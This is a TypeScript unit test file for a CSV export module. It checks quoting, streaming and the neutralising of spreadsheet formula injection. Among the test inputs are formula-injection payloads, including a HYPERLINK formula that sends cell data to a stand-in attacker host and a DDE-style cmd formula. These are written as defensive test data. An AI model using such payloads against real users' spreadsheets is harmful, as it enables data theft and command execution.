import { describe, expect, it } from "vitest";
import { csvField, csvRecord, csvStream, csvText, type CsvValue } from "./csv";

describe("csvField", () => {
  it.each<[string, CsvValue, string]>([
    ["plain text", "RD-7K3Q-9XWM", "RD-7K3Q-9XWM"],
    ["empty text", "", ""],
    ["null", null, ""],
    ["undefined", undefined, ""],
    ["a comma", "Hopper, Grace", '"Hopper, Grace"'],
    ["a quote", 'She said "no"', '"She said ""no"""'],
    ["only a quote", '"', '""""'],
    ["a line feed", "line one\nline two", '"line one\nline two"'],
    ["a CRLF", "line one\r\nline two", '"line one\r\nline two"'],
    ["spaces kept as they are", "  padded  ", "  padded  "],
    ["non-ASCII", "Zoë Ørsted 山田", "Zoë Ørsted 山田"],
    ["a semicolon", "a;b", "a;b"],
    ["an apostrophe inside", "O'Brien", "O'Brien"],
    ["an integer", 42, "42"],
    ["zero", 0, "0"],
    ["a negative number, which is not a formula", -3, "-3"],
    ["a fraction", 11.5, "11.5"],
    ["NaN", Number.NaN, ""],
    ["Infinity", Number.POSITIVE_INFINITY, ""],
    ["true", true, "true"],
    ["false", false, "false"],
    ["a date, as a UTC instant", new Date(Date.UTC(2026, 4, 1, 9, 30)), "2026-05-01T09:30:00.000Z"],
  ])("%s", (_label, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  describe("neutralises text a spreadsheet would run as a formula", () => {
    it.each<[string, string]>([
      ["=1+1", "'=1+1"],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
      ["+44 20 7946 0000", "'+44 20 7946 0000"],
      ["-2+3", "'-2+3"],
      ["-", "'-"],
      ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
      ["\t=1+1", "'\t=1+1"],
      ["\r=1+1", `"'\r=1+1"`],
      ["=cmd|' /C calc'!A0, more", `"'=cmd|' /C calc'!A0, more"`],
    ])("%j", (value, expected) => {
      expect(csvField(value)).toBe(expected);
    });

    it.each(["a=b", "1+1", "e-mail", "me@example.org", " =1", "'=already"])("but leaves %j alone", (value) => {
      expect(csvField(value)).toBe(value);
    });
  });
});

describe("csvText, the fast path the request log takes", () => {
  it.each(["RD-7K3Q-9XWM", "", "Hopper, Grace", 'She said "no"', "line one\r\nline two", "=1+1", "+44 20", "-", "@SUM(A1)", "\t=1", "\r=1", "=a,b", "a=b", "e-mail", "Zoë", " =1"])(
    "%j: exactly what csvField writes",
    (value) => {
      expect(csvText(value)).toBe(csvField(value));
    },
  );
});

describe("csvRecord", () => {
  it.each<[CsvValue[], string]>([
    [["a", "b", "c"], "a,b,c\r\n"],
    [[], "\r\n"],
    [[null, "", undefined], ",,\r\n"],
    [["x,y", 3, "=2", new Date(0), false], '"x,y",3,\'=2,1970-01-01T00:00:00.000Z,false\r\n'],
  ])("%j", (values, expected) => {
    expect(csvRecord(values)).toBe(expected);
  });
});

/** A minimal RFC 4180 reader, to prove what a spreadsheet would get back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

describe("round trip", () => {
  it("gives back every awkward value exactly (formulas with their apostrophe)", () => {
    const values = ["plain", "a,b", 'say "hi"', "two\nlines", "crlf\r\ninside", "", "=1+1", "Zoë"];
    expect(parseCsv(csvRecord(values))).toEqual([["plain", "a,b", 'say "hi"', "two\nlines", "crlf\r\ninside", "", "'=1+1", "Zoë"]]);
  });
});

describe("csvStream", () => {
  async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: number }> {
    const reader = stream.getReader();
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    let text = "";
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) return { text: text + decoder.decode(), chunks };
      chunks++;
      text += decoder.decode(value, { stream: true });
    }
  }

  it("starts with a UTF-8 byte order mark, then every record in order", async () => {
    const records = ["a,b\r\n", "1,2\r\n", "3,4\r\n"];
    const { text } = await readAll(csvStream(records));
    expect(text).toBe("\uFEFFa,b\r\n1,2\r\n3,4\r\n");
  });

  it.each([
    [0, 1, 1],
    [1, 1, 2],
    [10, 3, 5],
    [9, 3, 4],
  ])("%i records, %i per chunk, come in %i chunks (the mark is the first)", async (count, perChunk, chunks) => {
    const records = Array.from({ length: count }, (_, i) => `${i}\r\n`);
    const result = await readAll(csvStream(records, { recordsPerChunk: perChunk }));
    expect(result.text).toBe(`\uFEFF${records.join("")}`);
    expect(result.chunks).toBe(chunks);
  });

  it("pulls records only as they are read, and stops the source when the reader cancels", async () => {
    let produced = 0;
    let finished = false;
    function* source() {
      try {
        for (let i = 0; i < 1_000_000; i++) {
          produced++;
          yield `${i}\r\n`;
        }
      } finally {
        finished = true;
      }
    }
    const reader = csvStream(source(), { recordsPerChunk: 100 }).getReader();
    await reader.read();
    await reader.read();
    // The stream may read ahead a little (its queue holds one chunk), never the whole source.
    expect(produced).toBeLessThanOrEqual(300);
    await reader.cancel();
    expect(finished).toBe(true);
  });
});
